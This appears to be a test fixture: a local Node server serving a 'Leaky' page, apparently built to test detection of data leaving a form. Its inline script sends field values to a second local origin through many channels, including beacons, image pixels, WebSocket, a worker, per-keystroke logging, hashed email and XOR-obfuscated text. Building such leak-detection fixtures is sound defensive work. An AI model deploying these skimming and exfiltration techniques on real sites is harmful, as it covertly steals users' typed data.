import { createHash } from 'node:crypto';
import { createServer, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Duplex } from 'node:stream';

/** A page whose fields each leave it in a way of their own, and what of it arrives. */
export interface Leaky {
  readonly origin: string;
  /** Another site, on the same server. */
  readonly other: string;
  /** `GET /suggest`, in the order of their arrival. */
  arrived(): readonly string[];
  /** Everything that arrived, bodies and addresses, as text. */
  text(): string;
  close(): void;
}

export async function startLeaky(): Promise<Leaky> {
  const arrived: string[] = [];
  let text = '';
  const sockets = new Set<Duplex>();
  const server = createServer((request, response) => {
    const { url = '/', method = '' } = request;
    const path = url.replace(/[?].*/, '');
    if (path !== '/' && path !== '/worker.js') arrived.push(`${method} ${path}`);
    text += `${method} ${url}\n`;
    request.setEncoding('latin1').on('data', (chunk: string) => {
      text += chunk;
    });
    request.on('end', () => {
      const isPage = path === '/';
      const type = path.endsWith('.js') ? 'text/javascript' : 'text/html';
      response.writeHead(200, { 'content-type': type, 'access-control-allow-origin': '*' });
      response.end(isPage ? page(port) : path === '/worker.js' ? WORKER : '');
    });
  });
  server.on('upgrade', (request, socket) => {
    sockets.add(socket);
    socket.on('error', () => undefined);
    accept(request, socket);
    arrived.push(`WS ${request.url ?? ''}`);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  // A server that listens on a port has an address of this form.
  const { port } = server.address() as AddressInfo;
  return {
    origin: `http://127.0.0.1:${port}`,
    other: `localhost:${port}`,
    arrived: () => arrived,
    text: () => text,
    close: () => {
      for (const socket of sockets) socket.destroy();
      server.close();
      server.closeAllConnections();
    },
  };
}

/** The handshake of RFC 6455; whatever comes after it is not answered. */
function accept({ headers }: IncomingMessage, socket: Duplex): void {
  const key = `${headers['sec-websocket-key'] ?? ''}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`;
  const digest = createHash('sha1').update(key).digest('base64');
  socket.write(
    `HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${digest}\r\n\r\n`,
  );
}

/** Ways that a field's value leaves the page, each to a path of its own on another site. */
export const WAYS = [
  'fetch',
  'request',
  'gzip',
  'formdata',
  'xhr',
  'beacon',
  'blob',
  'image',
  'socket',
  'worker',
  'hash',
  'keys',
  'submit',
  'script-submit',
  'header',
] as const;

const WORKER = `onmessage = ({ data }) => {
  if (data.to) fetch(data.to, { method: 'POST', mode: 'no-cors', body: data.fields.join('&') });
};`;

const field = (way: string): string =>
  `<p><label for="${way}">Given name, by ${way}</label> <input id="${way}" name="given-name" autocomplete="given-name"></p>`;

const page = (port: number): string => `<!doctype html><html lang="en"><title>Leaky</title>
<h1>Leaky</h1>
<p>Signed in as <b class="who" id="shown">ada.lovelace@acme.test</b></p>
${WAYS.map(field).join('\n')}
<form id="form" action="/submitted" method="post"><p><label for="in-form">Company</label> <input id="in-form" name="company"></p></form>
<p><label for="saved">Email</label> <input id="saved" type="email" name="email" value="old@acme.test"></p>
<p><label for="controlled">Phone</label> <input id="controlled" type="tel" name="phone" value="+1 212 555 0000"></p>
<p><label for="stubborn">City</label> <input id="stubborn" name="city"></p>
<p><label for="coded">Street</label> <input id="coded" autocomplete="street-address" name="street"></p>
<p><label for="code">One-time code</label> <input id="code" autocomplete="one-time-code" maxlength="6"></p>
<p><label for="find">Search</label> <input id="find" type="search" name="q"></p>
<p><label for="reply">Write a message</label> <textarea id="reply" name="message"></textarea></p>
<script>
  const other = 'http://localhost:${port}/leak/';
  const at = (way) => other + way;
  const quiet = (promise) => Promise.resolve(promise).catch(() => undefined);
  const post = (way, body) => quiet(fetch(at(way), { method: 'POST', mode: 'no-cors', body }));
  const byId = (id) => document.getElementById(id);
  const packed = async (text) => new Uint8Array(await new Response(
    new Blob([text]).stream().pipeThrough(new CompressionStream('gzip'))).arrayBuffer());
  const digest = async (text) => [...new Uint8Array(await crypto.subtle.digest('SHA-256',
    new TextEncoder().encode(text.toLowerCase())))].map((b) => b.toString(16).padStart(2, '0')).join('');
  const socket = new WebSocket('ws://localhost:${port}/leak/socket');
  const worker = new Worker('/worker.js');
  const submitted = (value, send) => {
    const form = document.createElement('form');
    Object.assign(form, { method: 'post', action: at('form') });
    form.innerHTML = '<input name="name">';
    form.firstChild.value = value;
    document.body.append(form);
    send(form);
  };
  const ways = {
    fetch: (value) => post('fetch', JSON.stringify({ deep: { value } })),
    request: (value) => quiet(fetch(new Request(at('request'), { method: 'POST', mode: 'no-cors', body: value }))),
    gzip: async (value) => post('gzip', await packed(JSON.stringify({ value }))),
    formdata: (value) => { const data = new FormData(); data.append('name', value); post('formdata', data); },
    xhr: (value) => { const xhr = new XMLHttpRequest(); xhr.open('POST', at('xhr')); xhr.send('v=' + value); },
    beacon: (value) => navigator.sendBeacon(at('beacon'), value),
    blob: (value) => navigator.sendBeacon(at('blob'), new Blob([value])),
    image: (value) => { sessionStorage.setItem('seen', btoa(value)); new Image().src = at('image') + '?v=' + encodeURIComponent(value); },
    socket: (value) => socket.send(value),
    worker: (value) => worker.postMessage({ to: at('worker'), fields: ['a', value] }),
    hash: async (value) => { new Image().src = at('hash') + '?em=' + await digest(value); },
    submit: (value) => submitted(value, (form) => form.requestSubmit()),
    'script-submit': (value) => submitted(value, (form) => form.submit()),
    header: (value) => quiet(fetch('/look', { headers: { 'x-name': value } })),
  };
  for (const [id, send] of Object.entries(ways)) {
    byId(id).addEventListener('change', (event) => event.target.value && send(event.target.value));
  }
  byId('keys').addEventListener('keydown', ({ key }) => post('keys', JSON.stringify({ key })));
  new MutationObserver(() => post('shown', byId('shown').textContent))
    .observe(byId('shown'), { characterData: true, subtree: true });
  // A draft that saves itself, here and on the site's own server, and looks things up there.
  byId('saved').addEventListener('input', ({ target }) => {
    localStorage.setItem('draft', JSON.stringify({ mail: target.value }));
    quiet(fetch('/save', { method: 'POST', body: target.value }));
    quiet(fetch('/suggest?q=' + encodeURIComponent(target.value)));
  });
  byId('saved').addEventListener('change', ({ target }) => { document.cookie = 'last=' + encodeURIComponent(target.value); });
  // As React watches its fields: a setter on the element, and what it has seen last.
  const phone = byId('controlled');
  const native = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
  let tracked = phone.value;
  window.model = phone.value;
  Object.defineProperty(phone, 'value', { configurable: true, get() { return native.get.call(this); },
    set(value) { tracked = value; native.set.call(this, value); } });
  phone.addEventListener('input', () => {
    const value = native.get.call(phone);
    if (value === tracked) return;
    tracked = value;
    window.model = value;
  });
  byId('stubborn').addEventListener('input', ({ target }) => { target.value = ''; });
  // Nobody can read this.
  byId('coded').addEventListener('change', ({ target }) => post('coded',
    new TextEncoder().encode(target.value).map((byte, i) => byte ^ (i * 37 + 11) & 255)));
</script></html>`;
